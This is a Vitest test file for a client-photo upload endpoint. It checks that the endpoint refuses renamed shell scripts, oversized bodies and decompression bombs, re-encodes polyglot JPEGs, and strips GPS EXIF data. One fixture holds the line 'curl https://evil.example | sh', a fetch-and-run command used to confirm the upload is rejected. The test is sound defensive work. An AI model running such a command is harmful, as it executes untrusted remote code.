import fs from "node:fs";
import path from "node:path";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { PHOTO_LIMITS } from "@/lib/contracts/photos";
import {
  contains,
  containsGpsLatitude,
  jpegWithGps,
  pngBomb,
  polyglotJpeg,
} from "@/server/services/photos/test-images";
import { expectError } from "../auth/fixtures";
import type { Practitioner } from "../contacts/client-records-api";
import { loadPhotoApp, newClient, photoEvents, photoForm, photoPathOf, type PhotoApp } from "./photo-app";

let app: PhotoApp;
let alice: Practitioner;

beforeAll(async () => {
  app = await loadPhotoApp();
  alice = await app.signUp("Alice");
});

/** Uploads `bytes` to a fresh client and expects a refusal: nothing stored, nothing pointed at, nothing audited. */
async function expectRefused(status: number, init: RequestInit): Promise<string> {
  const client = await newClient(alice);
  const before = app.storedPhotos(alice.id);
  const error = await expectError(await app.call(alice, "PUT", client.id, init), status);
  expect(app.storedPhotos(alice.id)).toEqual(before);
  expect(await photoPathOf(client.id)).toBeNull();
  expect(await photoEvents(alice.id, client.id)).toEqual([]);
  return error.message;
}

async function storedCopyOf(bytes: Uint8Array, fileName: string): Promise<Buffer> {
  const client = await newClient(alice);
  const response = await app.call(alice, "PUT", client.id, { body: photoForm(bytes, fileName) });
  expect(response.status, await response.clone().text()).toBe(200);
  const objectPath = await photoPathOf(client.id);
  const stored = objectPath ? app.storedPhotos(alice.id).get(objectPath) : undefined;
  if (!stored) throw new Error("the photo was not stored");
  return stored;
}

describe("uploading a client photo", () => {
  it("refuses a shell script renamed .jpg and declared image/jpeg with 415", async () => {
    const script = Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n");
    const message = await expectRefused(415, { body: photoForm(script, "holiday.jpg", "image/jpeg") });
    expect(message).toMatch(/JPEG, PNG, WebP or HEIC/);
  });

  it("re-encodes a polyglot JPEG: the stored copy holds none of its HTML comment or appended ZIP", async () => {
    const polyglot = await polyglotJpeg("polyglot-7f3a");
    const stored = await storedCopyOf(polyglot, "innocent.jpg");
    expect((await sharp(stored).metadata()).format).toBe("webp");
    for (const needle of ["polyglot-7f3a", "<script", "<html", "PK\x03\x04", "#!/bin/sh"]) {
      expect(contains(stored, needle), needle).toBe(false);
    }
  });

  it("refuses a 50 MB upload with 413 from its declared length, storing nothing", async () => {
    const huge = new Uint8Array(50 * 1024 * 1024);
    const form = photoForm(huge, "huge.jpg");
    const body = await new Response(form).arrayBuffer();
    const contentType = new Response(form).headers.get("content-type") ?? "";
    await expectRefused(413, {
      body,
      headers: { "content-type": contentType, "content-length": String(body.byteLength) },
    });
  });

  it("refuses a 50 MB upload without a declared length with 413 after reading only the cap", async () => {
    const boundary = "photo-boundary";
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="huge.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff`,
      "latin1",
    );
    const chunk = new Uint8Array(1024 * 1024);
    let pulled = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        const next = pulled === 0 ? head : chunk;
        pulled += next.byteLength;
        if (pulled > 50 * 1024 * 1024) controller.close();
        else controller.enqueue(next);
      },
    });
    await expectRefused(413, { body, headers: { "content-type": `multipart/form-data; boundary=${boundary}` } });
    expect(pulled).toBeLessThan(PHOTO_LIMITS.maxBytes + 3 * chunk.byteLength);
  });

  it("refuses a decompression bomb (a 50000×50000 PNG of a few kB) with 422 and no crash", async () => {
    const bomb = pngBomb(50_000);
    expect(bomb.byteLength).toBeLessThan(10_000);
    const message = await expectRefused(422, { body: photoForm(bomb, "tiny.png", "image/png") });
    expect(message).toContain("megapixels");
    // The server still works afterwards.
    await storedCopyOf(await jpegWithGps(320, 240), "after-bomb.jpg");
  });

  it("stores a JPEG with GPS EXIF as a WebP with no EXIF, GPS or camera details", async () => {
    const input = await jpegWithGps(2000, 1500);
    expect((await sharp(input).metadata()).exif?.length).toBeGreaterThan(100);
    expect(containsGpsLatitude(input)).toBe(true);
    const stored = await storedCopyOf(input, "beach.jpg");
    const metadata = await sharp(stored).metadata();
    expect(metadata).toMatchObject({ format: "webp", width: 1024, height: 768 });
    expect(metadata.exif).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(containsGpsLatitude(stored)).toBe(false);
    for (const needle of ["Exif", "GPS", "TestCam", "Spy 3000", "Ada Example"]) {
      expect(contains(stored, needle), needle).toBe(false);
    }
  });

  it("stores a real HEIC (HEVC) photo where libvips decodes it, and otherwise answers 415 saying so", async () => {
    const heic = fs.readFileSync(path.join(import.meta.dirname, "fixtures/hevc-640x480.heic"));
    if (sharp.format.heif.input.fileSuffix?.includes(".heic")) {
      expect((await sharp(await storedCopyOf(heic, "IMG_0001.HEIC")).metadata()).format).toBe("webp");
      return;
    }
    const message = await expectRefused(415, { body: photoForm(heic, "IMG_0001.HEIC", "image/heic") });
    expect(message).toContain("HEIC photos cannot be read on this server");
  });

  // A bare image body is refused before the route reads it: a state-changing request must be JSON or
  // multipart (the CSRF rule defineRoute applies), so a cross-site <form> can never post one.
  it("refuses a body that is not multipart with 403, and a form without a photo with 422", async () => {
    const jpeg = await jpegWithGps(100, 100);
    const message = await expectRefused(403, { body: new Uint8Array(jpeg), headers: { "content-type": "image/jpeg" } });
    expect(message).toContain("must be application/json or multipart/form-data, not image/jpeg");
    const form = new FormData();
    form.append("file", new Blob([new Uint8Array(jpeg)]), "wrong-field.jpg");
    await expectRefused(422, { body: form });
  });
});
